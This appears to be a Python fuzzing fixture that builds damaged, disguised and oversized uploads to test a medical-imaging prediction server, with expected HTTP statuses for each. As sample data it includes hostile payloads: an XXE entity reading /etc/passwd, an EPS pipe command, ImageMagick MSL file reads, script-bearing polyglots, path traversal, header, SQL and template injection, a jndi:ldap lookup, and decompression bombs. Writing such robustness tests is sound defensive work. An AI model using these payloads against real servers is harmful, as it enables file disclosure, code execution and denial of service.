"""Uploads that a server must survive: damaged, disguised, oversized, misbuilt; and odd but legal ones.

`uploads(count, seed)` runs through all kinds in random order, each time with other random details.
"""

from __future__ import annotations

import gzip
import io
import itertools
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from functools import cache
from typing import Any

import nibabel as nib
import numpy as np
from PIL import Image

OK, BAD = {200}, {400, 413, 415, 422}
ANY = OK | BAD
BODY_LIMIT_MB = 8  # of the server that these are sent to


@dataclass(frozen=True)
class Hostile:
    """A request to ``path`` and the statuses that answer it rightly."""

    kind: str
    expected: set[int]
    request: dict[str, Any]  # keyword arguments of httpx
    path: str = "/predict_multitask"


Rng = np.random.Generator
Kind = Callable[[Rng], Hostile]
KINDS: dict[str, Kind] = {}


def kind(function: Kind) -> Kind:
    KINDS[function.__name__] = function
    return function


def uploads(count: int, seed: int = 0) -> Iterator[Hostile]:
    rng = np.random.default_rng(seed)
    order: list[str] = []
    for _ in range(count):
        if not order:
            order = list(rng.permutation(sorted(KINDS)))
        name = order.pop()
        yield replace(KINDS[name](rng), kind=name)


# -- building blocks ---------------------------------------------------------------------------------


def head(rng: Rng, height: int = 96, width: int = 80) -> np.ndarray:
    """A textured ellipse on black, uint8."""
    rows, columns = np.mgrid[-1 : 1 : height * 1j, -1 : 1 : width * 1j]
    noise = rng.normal(120, 25, (height, width)).clip(30, 255)
    return ((rows**2 + columns**2 < 0.8) * noise).astype(np.uint8)


def encode(image: np.ndarray | Image.Image, format: str = "PNG", **options: Any) -> bytes:
    picture = image if isinstance(image, Image.Image) else Image.fromarray(image)
    stream = io.BytesIO()
    picture.save(stream, format, **options)
    return stream.getvalue()


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(width: int, height: int, *chunks: bytes, depth: int = 8, colour: int = 0) -> bytes:
    start = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    body = b"".join((chunk(b"IHDR", start), *chunks, chunk(b"IEND", b"")))
    return b"\x89PNG\r\n\x1a\n" + body


def sent(
    data: bytes, expected: set[int], name: str = "scan.png", type: str = "image/png"
) -> Hostile:
    return Hostile("", expected, {"files": {"file": (name, data, type)}})


def volume(data: bytes, expected: set[int], name: str = "scan.nii.gz") -> Hostile:
    files = {"file": (name, data, "application/gzip")}
    return Hostile("", expected, {"files": files}, "/predict_volume")


def raw(body: bytes, content_type: str, expected: set[int]) -> Hostile:
    return Hostile("", expected, {"content": body, "headers": {"Content-Type": content_type}})


def nifti(array: np.ndarray) -> bytes:
    return nib.Nifti1Image(array, np.eye(4)).to_bytes()


def header(shape: tuple[int, ...], dtype: Any = np.float32) -> bytes:
    """The first 352 bytes of a volume that is announced and not there."""
    image = nib.Nifti1Header()
    image.set_data_dtype(dtype)
    image.set_data_shape(shape)
    image.set_sform(np.eye(4), 1)
    image["vox_offset"] = 352
    return image.binaryblock + bytes(4)


@cache
def zeros_gz(megabytes: int) -> bytes:
    return gzip.compress(bytes(megabytes << 20), 9)


def flipped(rng: Rng, data: bytes, share: float = 0.002) -> bytes:
    values = np.frombuffer(data, np.uint8).copy()
    places = rng.integers(0, len(values), max(1, int(share * len(values))))
    values[places] = rng.integers(0, 256, len(places))
    return values.tobytes()


# -- pictures that are damaged ------------------------------------------------------------------------


@kind
def truncated_png(rng: Rng) -> Hostile:
    data = encode(head(rng))
    return sent(data[: int(rng.uniform(0.1, 0.8) * len(data))], {422})


@kind
def truncated_jpeg(rng: Rng) -> Hostile:
    data = encode(head(rng), "JPEG")
    return sent(data[: int(rng.uniform(0.1, 0.8) * len(data))], {422}, "scan.jpg")


@kind
def flipped_bits(rng: Rng) -> Hostile:
    format = rng.choice(["PNG", "JPEG", "BMP", "GIF", "TIFF", "WEBP", "PPM"])
    return sent(flipped(rng, encode(head(rng), str(format))), ANY)


@kind
def flipped_header(rng: Rng) -> Hostile:
    data = encode(head(rng), str(rng.choice(["PNG", "JPEG", "BMP", "GIF", "TIFF", "WEBP"])))
    return sent(flipped(rng, data[:64], 0.1) + data[64:], ANY)


@kind
def wrong_checksum(rng: Rng) -> Hostile:
    data = bytearray(encode(head(rng)))
    data[data.index(b"IDAT") + 10] ^= 0xFF
    return sent(bytes(data), {422})


@kind
def magic_then_noise(rng: Rng) -> Hostile:
    starts = (
        b"\x89PNG\r\n\x1a\n",
        b"\xff\xd8\xff\xe0",
        b"II*\0",
        b"MM\0*",
        b"BM",
        b"GIF89a",
        b"P5 ",
    )
    return sent(starts[rng.integers(len(starts))] + rng.bytes(int(rng.integers(1, 4000))), BAD)


@kind
def random_bytes(rng: Rng) -> Hostile:
    return sent(b"\x01" + rng.bytes(int(rng.integers(1, 20_000))), {415, 422})


@kind
def empty(rng: Rng) -> Hostile:
    return sent(b"", {415, 422})


@kind
def nan_tiff(rng: Rng) -> Hostile:
    values = head(rng).astype(np.float32)
    values[rng.integers(20, 60), 40] = rng.choice([np.nan, np.inf, -np.inf])
    return sent(encode(values, "TIFF"), {422}, "scan.tif")


@kind
def tiny(rng: Rng) -> Hostile:
    shape = ((1, 1), (1, 500), (31, 31), (2, 2))[rng.integers(4)]
    return sent(encode(np.full(shape, 99, np.uint8)), {422})


# -- bombs ---------------------------------------------------------------------------------------------


@kind
def huge_dimensions(rng: Rng) -> Hostile:
    size = int(rng.integers(10_000, 2**31 - 1))
    return sent(png(size, size, chunk(b"IDAT", zlib.compress(bytes(1000)))), {413})


@kind
def huge_bmp(rng: Rng) -> Hostile:
    size = int(rng.integers(10_000, 2**30))
    info = struct.pack("<IiiHHIIiiII", 40, size, size, 1, 24, 0, 0, 0, 0, 0, 0)
    return sent(b"BM" + struct.pack("<IHHI", 54, 0, 0, 54) + info, {413, 422}, "scan.bmp")


@kind
def text_chunk_bomb(rng: Rng) -> Hostile:
    bomb = b"Comment\0\0" + zlib.compress(bytes(32 << 20), 9)
    pixels = zlib.compress(b"".join(b"\0" + row.tobytes() for row in head(rng, 64, 64)))
    return sent(png(64, 64, chunk(b"zTXt", bomb), chunk(b"IDAT", pixels)), ANY)


@kind
def pixel_bomb(rng: Rng) -> Hostile:
    """16 megapixels of black in 16 kB: legal, and nothing to see in it."""
    return sent(png(4096, 4096, chunk(b"IDAT", zlib.compress(bytes(4096 * 4097), 9))), {200})


@kind
def too_much_data(rng: Rng) -> Hostile:
    return sent(
        encode(head(rng)) + bytes((BODY_LIMIT_MB << 20) + int(rng.integers(1 << 20))), {413}
    )


@kind
def zip_bomb(rng: Rng) -> Hostile:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("scan.png", bytes(16 << 20))
    return sent(stream.getvalue(), {415}, "scan.zip", "application/zip")


@kind
def gzip_bomb_behind_a_small_volume(rng: Rng) -> Hostile:
    return volume(gzip.compress(header((8, 8, 8)) + bytes(2048)) + zeros_gz(64), {422})


@kind
def gzip_bomb_announced(rng: Rng) -> Hostile:
    return volume(gzip.compress(header((400, 400, 400)) + bytes(64 << 10)) + zeros_gz(16), {413})


@kind
def gzip_bomb_in_the_extension(rng: Rng) -> Hostile:
    start = bytearray(header((8, 8, 8)))
    start[108:112] = struct.pack("<f", 1024)  # where the voxels begin
    claim = bytes(start[:348]) + b"\1\0\0\0" + struct.pack("<ii", 2**31 - 16, 6)
    return volume(gzip.compress(claim) + zeros_gz(64), {422})


@kind
def gzip_of_gzip(rng: Rng) -> Hostile:
    return volume(gzip.compress(zeros_gz(64)), {415})


# -- disguises -----------------------------------------------------------------------------------------


@kind
def text_as_png(rng: Rng) -> Hostile:
    return sent(b"P(tumour) = 1. " * int(rng.integers(1, 500)), {415})


@kind
def markup(rng: Rng) -> Hostile:
    bodies = (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF",
        b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (r) file\n",
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        b"push graphic-context\nimage over 0,0 0,0 'msl:/etc/passwd'\n",
        b'/* XPM */\nstatic char *a[] = {"1 1 1 1"};',
    )
    return sent(bodies[rng.integers(len(bodies))], {415})


@kind
def other_formats(rng: Rng) -> Hostile:
    format = str(rng.choice(["ICO", "ICNS", "PCX", "SGI", "TGA", "JPEG2000", "DDS", "PDF", "EPS"]))
    picture = Image.fromarray(head(rng, 128, 128)).convert("RGB")
    return sent(encode(picture, format), {415, 422})


@kind
def dicom(rng: Rng) -> Hostile:
    return sent(bytes(128) + b"DICM" + rng.bytes(500), {415}, "scan.dcm")


@kind
def volume_as_picture(rng: Rng) -> Hostile:
    return sent(nifti(np.ones((8, 8, 8), np.float32)), {415})


@kind
def picture_as_volume(rng: Rng) -> Hostile:
    return volume(encode(head(rng)), {415})


@kind
def polyglot(rng: Rng) -> Hostile:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("payload.js", "alert(1)")
    tails = (
        stream.getvalue(),
        b"<script>alert(1)</script>",
        b"%PDF-1.7\n%%EOF",
        b"<?php die(); ?>",
    )
    return sent(encode(head(rng)) + tails[rng.integers(len(tails))], {200})


@kind
def animated(rng: Rng) -> Hostile:
    frames = [Image.fromarray(head(rng)) for _ in range(3)]
    format = str(rng.choice(["GIF", "WEBP", "PNG", "TIFF"]))
    data = encode(frames[0], format, save_all=True, append_images=frames[1:])
    return sent(data, {422}, f"scan.{format.lower()}")


# -- odd, but legal --------------------------------------------------------------------------------------


@kind
def odd_modes(rng: Rng) -> Hostile:
    image = Image.fromarray(head(rng))
    wide = head(rng).astype(np.uint16) * 200
    choices = (
        encode(wide),
        encode(wide, "TIFF"),
        encode(head(rng).astype(np.float32) / 7, "TIFF"),
        encode(image.convert("CMYK"), "JPEG"),
        encode(image.convert("P")),
        encode(image.convert("RGBA")),
        encode(image.convert("LA")),
        encode(image.convert("1")),
        encode(image.convert("YCbCr"), "JPEG"),
        encode(image.convert("RGB").convert("LAB"), "TIFF"),
    )
    return sent(choices[rng.integers(len(choices))], {200})


@kind
def rotated_by_exif(rng: Rng) -> Hostile:
    exif = Image.Exif()
    exif[0x0112] = int(rng.integers(0, 12))
    exif[0x010E] = "Mr Patient, born 1950"
    return sent(encode(head(rng), "JPEG", exif=exif), {200}, "scan.jpg")


@kind
def damaged_exif(rng: Rng) -> Hostile:
    block = b"Exif\0\0" + b"II*\0\x08\0\0\0" + rng.bytes(int(rng.integers(2, 3000)))
    return sent(encode(head(rng), "JPEG", exif=block), ANY, "scan.jpg")


@kind
def blank(rng: Rng) -> Hostile:
    value = int(rng.choice([0, 255, 90]))
    return sent(encode(np.full((200, 180), value, np.uint8)), {200})


@kind
def strip(rng: Rng) -> Hostile:
    return sent(encode(np.tile(head(rng), (1, 8))), {200})


@kind
def noise(rng: Rng) -> Hostile:
    return sent(encode(rng.integers(0, 256, (150, 150, 3), np.uint8)), {200})


@kind
def path_like_names(rng: Rng) -> Hostile:
    names = (
        "../../../etc/passwd",
        "C:\\Windows\\System32\\config\\SAM",
        "/dev/null",
        "a" * 2000 + ".png",
        "scan.png\r\nX-Injected: 1",
        "Müller, Erika \u202egnp.exe",
        "';DROP TABLE patients;--.png",
        "{{7*7}}${jndi:ldap://example.invalid/a}",
    )
    return sent(encode(head(rng)), {200, 400}, names[rng.integers(len(names))])


# -- volumes ---------------------------------------------------------------------------------------------


@kind
def damaged_volume(rng: Rng) -> Hostile:
    data = gzip.compress(nifti(rng.normal(100, 20, (24, 24, 6)).astype(np.float32)))
    cut = data[: int(rng.uniform(0.1, 0.9) * len(data))]
    return volume((cut, flipped(rng, data, 0.01))[rng.integers(2)], {413, 415, 422})


@kind
def cut_volume(rng: Rng) -> Hostile:
    data = nifti(np.ones((16, 16, 16), np.float32))
    return volume(data[: int(rng.integers(100, len(data)))], {415, 422}, "scan.nii")


@kind
def odd_headers(rng: Rng) -> Hostile:
    data = bytearray(nifti(rng.normal(100, 20, (24, 24, 6)).astype(np.float32)))
    for _ in range(3):
        data[rng.integers(0, 348)] = rng.integers(0, 256)
    return volume(bytes(data), ANY, "scan.nii")


@kind
def fuzzed_dimensions(rng: Rng) -> Hostile:
    data = bytearray(header((8, 8, 8)) + bytes(2048))
    data[40:56] = rng.bytes(16)
    return volume(bytes(data), BAD, "scan.nii")


@kind
def unusable_volumes(rng: Rng) -> Hostile:
    plain = rng.normal(100, 20, (24, 24, 6)).astype(np.float32)
    broken = plain.copy()
    broken[3, 3, 3] = np.nan
    choices = (
        nifti(broken),
        nifti(plain)[:280] + bytes(48) + nifti(plain)[328:],  # an affine of zeros
        nifti(np.stack([plain, plain], 3)),
        nifti(plain[:, :, 0]),
        nib.Nifti1Image(plain, None).to_bytes(),
        nifti(np.zeros((24, 24, 6), [("R", "u1"), ("G", "u1"), ("B", "u1")])),
    )
    return volume(choices[rng.integers(len(choices))], {422}, "scan.nii")


# -- multipart -------------------------------------------------------------------------------------------


def part(name: str, data: bytes, filename: str | None = "a.png", extra: bytes = b"") -> bytes:
    file = f'; filename="{filename}"' if filename is not None else ""
    start = f'--x\r\nContent-Disposition: form-data; name="{name}"{file}\r\n'.encode()
    return start + extra + b"\r\n" + data + b"\r\n"


FORM = "multipart/form-data; boundary=x"


@kind
def deep_multipart(rng: Rng) -> Hostile:
    body = encode(head(rng))
    for level in range(int(rng.integers(20, 200))):
        inner = f"b{level}".encode()
        body = b"--" + inner + b"\r\n\r\n" + body + b"\r\n--" + inner + b"--\r\n"
    nested = part("file", body, extra=b"Content-Type: multipart/mixed; boundary=b0\r\n")
    return raw(nested + b"--x--\r\n", FORM, {415})


@kind
def many_parts(rng: Rng) -> Hostile:
    filename = (None, "a.png")[rng.integers(2)]
    return raw(part("file", b"1", filename) * 5000 + b"--x--\r\n", FORM, {400, 413})


@kind
def broken_multipart(rng: Rng) -> Hostile:
    data = encode(head(rng))
    bodies = (
        b"",
        b"--x",
        b"--x--\r\n",
        part("file", data),  # no end
        part("file", data).replace(b"\r\n\r\n", b"\r\n", 1) + b"--x--\r\n",
        part("file", data).replace(b'name="file"; ', b"") + b"--x--\r\n",
        part("file", data).replace(b"form-data", b"attachment")[10:] + b"--x--\r\n",
        part("other", data) + b"--x--\r\n",
        part("file", b"text", None) + b"--x--\r\n",
        part("file", data, extra=b"X-Long: " + b"a" * 100_000 + b"\r\n") + b"--x--\r\n",
        part("file", data, extra=b"X-A: b\r\n" * 2000) + b"--x--\r\n",
        b"\r\n" * 5000 + part("file", data) + b"--x--\r\n",
        b"--y\r\n" * 5000,
        rng.bytes(3000),
    )
    return raw(bodies[rng.integers(len(bodies))], FORM, OK | {400, 422})


@kind
def wrong_content_type(rng: Rng) -> Hostile:
    types = (
        "multipart/form-data",
        "multipart/form-data; boundary=",
        "multipart/form-data; boundary=" + "x" * 5000,
        "multipart/form-data; boundary=x; charset=undefined",
        "multipart/form-data; boundary=x; charset=punycode",
        'multipart/form-data; boundary="x\\"; charset=\'',
        "application/json",
        "application/x-www-form-urlencoded",
        "image/png",
        "",
        ";;;",
    )
    body = part("fil\xfc", encode(head(rng))) + b"--x--\r\n"
    return raw(body, types[rng.integers(len(types))], {400, 415, 422})


@kind
def odd_parameters(rng: Rng) -> Hostile:
    queries = (
        "seg_threshold=nan",
        "seg_threshold=1e999",
        "cls_threshold=0",
        "seg_threshold=0.9&cls_threshold=0.1",
        "include_gradcam=perhaps",
        "cls_threshold=" + "9" * 5000,
        "seg_threshold=0.2&seg_threshold=x",
    )
    upload = sent(encode(head(rng)), {422})
    path = f"{upload.path}?{queries[rng.integers(len(queries))]}"
    return Hostile("", {422}, upload.request, path)


@kind
def hostile_batch(rng: Rng) -> Hostile:
    """Readable and unreadable pictures together: the batch is answered, whatever lies in it."""
    names = [n for n in KINDS if n not in ("hostile_batch", "too_much_data", "pixel_bomb")]
    chosen = (KINDS[str(name)](rng) for name in itertools.cycle(rng.permutation(names)))
    pictures = (h for h in chosen if h.path == "/predict_multitask" and "files" in h.request)
    files = [("files", h.request["files"]["file"]) for h in itertools.islice(pictures, 6)]
    return Hostile("", {200, 413}, {"files": files}, "/predict_batch")
